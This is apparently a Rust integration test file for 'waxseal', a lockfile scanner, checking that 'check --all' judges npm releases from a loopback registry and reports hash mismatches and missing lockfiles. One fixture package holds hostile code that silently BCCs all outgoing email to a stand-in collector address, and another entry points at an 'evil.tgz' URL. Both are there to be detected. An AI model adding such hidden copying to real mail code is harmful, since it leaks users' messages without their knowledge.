//! `check --all`: every release of a lockfile, from a registry on the loopback address.

use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::Arc;

use base64::Engine as _;
use serde_json::{Value, json};
use sha2::{Digest, Sha512};

use crate::support::{Ended, World, ended, pack};

/// A registry that serves these releases.
struct Served {
    base: String,
    hashes: BTreeMap<String, String>,
}

impl Served {
    /// Each is a name, a version and its code.
    fn start(releases: &[(&str, &str, &str)]) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let base = format!("http://{}/", listener.local_addr().unwrap());
        let mut answers: BTreeMap<String, Vec<u8>> = BTreeMap::new();
        let mut hashes = BTreeMap::new();
        let mut documents: BTreeMap<&str, Value> = BTreeMap::new();
        for (name, version, code) in releases {
            let manifest = json!({ "name": name, "version": version, "main": "index.js" }).to_string();
            let archive = pack(&[("package.json", manifest.as_bytes()), ("index.js", code.as_bytes())]);
            let hash = hash(&archive);
            let path = format!("/{name}/-/{name}-{version}.tgz");
            let dist = json!({ "tarball": format!("{}{}", base.trim_end_matches('/'), path), "integrity": hash });
            answers.insert(path, archive);
            hashes.insert(format!("{name}@{version}"), hash);
            let document = documents
                .entry(name)
                .or_insert_with(|| json!({ "name": name, "versions": {}, "dist-tags": {} }));
            document["versions"][version] = json!({ "name": name, "version": version, "dist": dist });
            document["dist-tags"]["latest"] = json!(version);
        }
        for (name, document) in documents {
            answers.insert(format!("/{name}"), document.to_string().into_bytes());
        }
        let answers = Arc::new(answers);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let answers = Arc::clone(&answers);
                std::thread::spawn(move || answer(&stream.unwrap(), &answers));
            }
        });
        Self { base, hashes }
    }

    /// What a lockfile of npm's says of one.
    fn locked(&self, name: &str, version: &str) -> Value {
        json!({
            "version": version,
            "resolved": format!("{}{name}/-/{name}-{version}.tgz", self.base),
            "integrity": self.hashes[&format!("{name}@{version}")],
        })
    }

    fn run(&self, world: &World, arguments: &[&str]) -> Ended {
        let mut command = world.command(&[&["check", "--all"], arguments].concat());
        ended(command.env("npm_config_registry", &self.base).output().unwrap())
    }
}

fn answer(mut stream: &TcpStream, answers: &BTreeMap<String, Vec<u8>>) {
    let mut lines = BufReader::new(stream).lines();
    let first = lines.next().unwrap().unwrap();
    lines
        .map_while(Result::ok)
        .take_while(|line| !line.is_empty())
        .for_each(drop);
    let path = first.split(' ').nth(1).unwrap_or_default();
    let (status, body) = match answers.get(path) {
        Some(body) => ("200 OK", body.as_slice()),
        None => ("404 Not Found", &b"{}"[..]),
    };
    let length = body.len();
    let head = format!(
        "HTTP/1.1 {status}\r\ncontent-type: application/json\r\ncontent-length: {length}\r\nconnection: close\r\n\r\n"
    );
    let _ = stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(body));
}

fn hash(bytes: &[u8]) -> String {
    let digest = Sha512::digest(bytes);
    format!("sha512-{}", base64::engine::general_purpose::STANDARD.encode(digest))
}

/// A project whose lockfile has these entries.
fn project(entries: Value) -> World {
    let world = World::new();
    let mut packages = json!({ "": { "name": "project", "version": "1.0.0" } });
    packages
        .as_object_mut()
        .unwrap()
        .extend(entries.as_object().unwrap().clone());
    let lockfile = json!({ "name": "project", "version": "1.0.0", "lockfileVersion": 3, "packages": packages });
    world.write("package-lock.json", lockfile.to_string());
    world
}

const CALM: &str = "module.exports = 1;\n";
const COPIES: &str = "const { ServerClient } = require('postmark');\nexports.send = (client, message) =>\n  new ServerClient(process.env.TOKEN).sendEmail({ ...message, Bcc: 'archive@collector.example' });\n";

#[test]
fn every_release_is_judged_and_only_what_is_not_allowed_is_shown() {
    let served = Served::start(&[
        ("calm", "1.0.0", CALM),
        ("calm", "2.0.0", CALM),
        ("copies", "1.0.0", COPIES),
    ]);
    let world = project(json!({
        "node_modules/calm": served.locked("calm", "1.0.0"),
        "node_modules/copies": served.locked("copies", "1.0.0"),
        "node_modules/copies/node_modules/calm": served.locked("calm", "2.0.0"),
        "node_modules/x/node_modules/calm": served.locked("calm", "2.0.0"),
    }));
    for arguments in [&[][..], &["."], &["package-lock.json"]] {
        let ended = served.run(&world, arguments);
        assert_eq!(ended.status, 1, "{}", ended.all());
        assert!(ended.stdout.contains("copies@1.0.0") && ended.stdout.contains("archive@collector.example"));
        assert!(!ended.stdout.contains("calm@"), "{}", ended.stdout);
        assert!(
            ended.stdout.contains("3 releases judged: 1 blocked, 2 allowed"),
            "{}",
            ended.stdout
        );
    }
    let ended = served.run(&world, &["--format", "json"]);
    let json = ended.json();
    let names: Vec<&str> = json["packages"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|it| it["package"].as_str())
        .collect();
    assert_eq!(
        names,
        ["pkg:npm/calm@1.0.0", "pkg:npm/calm@2.0.0", "pkg:npm/copies@1.0.0"]
    );
    assert_eq!(json["packages"][0]["complete"], true);
}

#[test]
fn a_clean_lockfile_ends_with_0_and_a_count() {
    let served = Served::start(&[("calm", "1.0.0", CALM)]);
    let world = project(json!({ "node_modules/calm": served.locked("calm", "1.0.0") }));
    let ended = served.run(&world, &[]);
    assert_eq!(ended.status, 0, "{}", ended.all());
    assert!(!ended.stdout.contains("calm"), "{}", ended.stdout);
    // This registry does not say when releases were published: said once, however many there are.
    let lines: Vec<&str> = ended.stdout.lines().filter(|line| !line.starts_with(' ')).collect();
    assert!(
        lines.iter().any(|line| line.starts_with("1 release judged: 1 allowed")),
        "{lines:?}"
    );
    assert!(
        lines.iter().any(|line| line.starts_with("could not look: ")),
        "{lines:?}"
    );
    let ended = served.run(&world, &["--format", "markdown"]);
    assert!(
        ended.stdout.starts_with("## waxseal: 1 release judged: 1 allowed"),
        "{}",
        ended.stdout
    );
}

#[test]
fn other_bytes_than_the_lockfile_expects_are_a_finding() {
    let served = Served::start(&[("calm", "1.0.0", CALM)]);
    let mut locked = served.locked("calm", "1.0.0");
    locked["integrity"] = json!(hash(b"something else"));
    let world = project(json!({ "node_modules/calm": locked }));
    let ended = served.run(&world, &["--format", "json"]);
    assert_eq!(ended.status, 1, "{}", ended.all());
    let finding = &ended.json()["packages"][0]["findings"][0];
    assert_eq!(finding["indicator"], "archive/other-hash");
    assert!(
        finding["summary"]
            .as_str()
            .unwrap()
            .contains(&served.hashes["calm@1.0.0"]),
        "{finding}"
    );
    // The same release with both hashes in two places.
    let mut twice = project(json!({}));
    let lockfile = json!({ "lockfileVersion": 3, "packages": {
        "": {},
        "node_modules/calm": served.locked("calm", "1.0.0"),
        "node_modules/x/node_modules/calm": locked,
    }});
    twice.write("package-lock.json", lockfile.to_string());
    assert_eq!(served.run(&twice, &[]).status, 1);
    twice = project(json!({ "node_modules/calm": served.locked("calm", "1.0.0") }));
    assert_eq!(served.run(&twice, &[]).status, 0);
}

#[test]
fn a_release_that_cannot_be_had_leaves_the_answer_open() {
    let served = Served::start(&[("calm", "1.0.0", CALM)]);
    let mut gone = served.locked("calm", "1.0.0");
    gone["version"] = json!("1.0.1");
    let world = project(
        json!({ "node_modules/calm": served.locked("calm", "1.0.0"), "node_modules/x/node_modules/calm": gone }),
    );
    let ended = served.run(&world, &[]);
    assert_eq!(ended.status, 4, "{}", ended.all());
    assert!(
        ended.stdout.contains("INCOMPLETE") && ended.stdout.contains("calm@1.0.1"),
        "{}",
        ended.stdout
    );
    assert!(
        ended.stdout.contains("2 releases judged: 1 allowed, 1 incomplete"),
        "{}",
        ended.stdout
    );
    assert_eq!(served.run(&world, &["--allow-incomplete"]).status, 0);
}

#[test]
fn what_no_registry_serves_is_said_not_to_be_looked_at() {
    let served = Served::start(&[("calm", "1.0.0", CALM)]);
    let world = project(json!({
        "node_modules/calm": served.locked("calm", "1.0.0"),
        "node_modules/cloned": { "version": "1.0.0", "resolved": "git+ssh://git@code.example/ada/cloned.git#0123" },
        "node_modules/own": { "resolved": "packages/own", "link": true },
        "packages/own": { "version": "1.0.0" },
    }));
    let ended = served.run(&world, &[]);
    assert_eq!(ended.status, 4, "{}", ended.all());
    let told = ended.stdout.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(
        told.contains("`cloned` comes from a repository and is not looked at"),
        "{told}"
    );
    assert!(
        told.contains("`own` comes from this disk and is not looked at"),
        "{told}"
    );
    assert!(told.contains("1 release judged"), "{told}");
}

#[test]
fn what_is_not_hashed_is_said_and_decides_where_its_address_is_another() {
    let served = Served::start(&[("calm", "1.0.0", CALM)]);
    let mut bare = served.locked("calm", "1.0.0");
    bare.as_object_mut().unwrap().remove("integrity");
    let world = project(json!({ "node_modules/calm": bare }));
    let ended = served.run(&world, &["--format", "json"]);
    assert_eq!(ended.status, 0, "{}", ended.all());
    assert!(
        ended.stdout.contains("do not say what") || ended.stdout.contains("does not say what"),
        "{}",
        ended.stdout
    );
    bare["resolved"] = json!("http://elsewhere.example/evil.tgz");
    let world = project(json!({ "node_modules/calm": bare }));
    assert_eq!(served.run(&world, &[]).status, 4);
}

#[test]
fn lockfiles_that_are_not_there_or_not_read_have_their_statuses() {
    let served = Served::start(&[]);
    let world = World::new();
    let ended = served.run(&world, &[]);
    assert!(
        ended.status == 3 && ended.stderr.contains("no lockfile lies in `.`"),
        "{}",
        ended.all()
    );
    world.write("package.json", "{}");
    let ended = served.run(&world, &["package.json"]);
    assert!(
        ended.status == 2 && ended.stderr.contains("is no lockfile"),
        "{}",
        ended.all()
    );
    let ended = served.run(&world, &["sub/package-lock.json"]);
    assert_eq!(ended.status, 4, "{}", ended.all());
    assert_eq!(served.run(&world, &[".", "."]).status, 2);
    assert_eq!(served.run(&world, &["--against", "previous"]).status, 2);
    world.write("package-lock.json", "{ \"lockfileVersion\": 3, \"packages\": {");
    let ended = served.run(&world, &[]);
    assert_eq!(ended.status, 4, "{}", ended.all());
    assert!(
        ended.stdout.contains("cannot read `./package-lock.json`"),
        "{}",
        ended.stdout
    );
    world.write(
        "package-lock.json",
        "{ \"lockfileVersion\": 3, \"packages\": { \"\": {} } }",
    );
    assert_eq!(served.run(&world, &[]).status, 3);
}
